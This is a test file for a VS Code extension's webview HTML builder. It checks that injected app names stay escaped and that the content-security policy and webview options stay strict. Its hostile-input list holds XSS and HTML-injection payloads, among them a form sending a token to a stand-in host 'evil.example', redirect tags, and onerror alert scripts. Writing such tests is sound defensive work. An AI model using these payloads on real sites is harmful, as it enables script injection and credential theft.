import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import type * as vscode from 'vscode';
import { plain } from '../../../src/shared/text.ts';
import { webviewHtml, webviewOptions } from '../../../src/editor/webviewHtml.ts';
import * as editor from '../support/editor.ts';
import { extensionFolder } from '../support/extensionFolder.ts';
import { elementsOf } from '../support/htmlElements.ts';

vi.mock('vscode', () => import('../support/editor.ts'));

const pages = [
  ['logs', 'modal-logs'],
  ['request', 'modal-request'],
  ['load', 'modal-load'],
] as const;
type Page = [bundle: (typeof pages)[number][0], element: (typeof pages)[number][1]];

const extension = new editor.Uri(extensionFolder()) as unknown as vscode.Uri;
const pageOf = ([bundle, element]: Page, title: string, first?: readonly object[]): string =>
  webviewHtml(
    new editor.View(title).webview as unknown as vscode.Webview,
    extension,
    bundle,
    element,
    title,
    first,
  );

const hostile = [
  '</title><form action="https://evil.example"><input name=token></form><!--',
  '</h1></main><img src=x onerror=alert(1)>',
  '</title><meta http-equiv=refresh content="0;url=https://evil.example">',
  '</title><base href="https://evil.example/">',
  '</title></head><body><script type="application/json" id="first">[]</script>',
  '</title><modal-request data-first="[]"></modal-request>',
  '</title><svg><style>*{display:none}</style><script>alert(1)</script></svg>',
  '</title><template><iframe srcdoc="<p>x</p>"></iframe></template>',
  '<!-- <script> <![CDATA[',
  '</title\t><plaintext>',
  '&lt;/title&gt;<textarea>',
  '" autofocus onfocus="alert(1)',
  "' onclick='alert(1)' x='",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '${title} $& $1 $` <%= x %> {{x}}',
  '\0</title>\u2028<form>\u2029',
  '\uD800</title><form>',
];

describe.each(pages)('the %s page', (...page) => {
  const ordinary = elementsOf(pageOf(page, 'finbert')).map(({ name }) => name);

  it.each(hostile)('has no other elements when an app is named %j', (name) => {
    const elements = elementsOf(pageOf(page, name));
    expect(elements.map((each) => each.name)).toEqual(ordinary);
    for (const tag of ['title', 'h1'])
      expect(elements.find((each) => each.name === tag)?.text.trim()).toBe(plain(name).trim());
  });

  it('has no other elements, whatever the name and its first messages are', { timeout: 60_000 }, () => {
    const parts = fc.constantFrom(
      ...hostile,
      '<',
      '>',
      '"',
      "'",
      '&',
      '--',
      '!',
      '/',
      '=',
      '</script',
      '\r\n',
      '\f',
    );
    const text = fc.array(fc.oneof(parts, fc.string({ unit: 'binary' })), { maxLength: 6 });
    fc.assert(
      fc.property(text, text, (name, words) => {
        const first = [{ type: 'x', [words.join('')]: words }];
        const elements = elementsOf(pageOf(page, name.join(''), first));
        expect(elements.map((each) => each.name)).toEqual(ordinary);
        const told = elements.find((each) => each.name === page[1])?.attributes['data-first'] ?? '';
        expect(JSON.parse(told)).toEqual(JSON.parse(JSON.stringify(first)));
      }),
      { numRuns: 100 },
    );
  });

  it('lets only what carries its nonce run, and sends forms and links nowhere', () => {
    const elements = elementsOf(pageOf(page, 'finbert'));
    const policy = elements.find(({ attributes }) => attributes['http-equiv'])?.attributes['content'] ?? '';
    const directives = new Map(
      policy.split('; ').map((each) => [each.split(' ')[0], each.split(' ').slice(1)]),
    );
    const nonce = directives.get('script-src')?.[0]?.replaceAll(/^'nonce-|'$/g, '');
    expect(nonce).toMatch(/^[\w-]{22}$/);
    expect(Object.fromEntries(directives)).toEqual({
      'default-src': ["'none'"],
      'script-src': [`'nonce-${nonce}'`],
      'style-src': [`'nonce-${nonce}'`],
      'img-src': ['data:'],
      'font-src': ['data:'],
      'form-action': ["'none'"],
      'base-uri': ["'none'"],
    });
    for (const { name, attributes } of elements)
      if (name === 'script' || name === 'style') expect(attributes['nonce']).toBe(nonce);
    expect(pageOf(page, 'finbert')).not.toContain(nonce);
  });
});

it('webviews send no forms, open no commands, and read only their own folder', () => {
  const { localResourceRoots, ...options } = webviewOptions(extension);
  expect(options).toEqual({ enableScripts: true, enableForms: false });
  expect(localResourceRoots?.map(({ path }) => path)).toEqual([`${extension.path}/dist/webview`]);
});
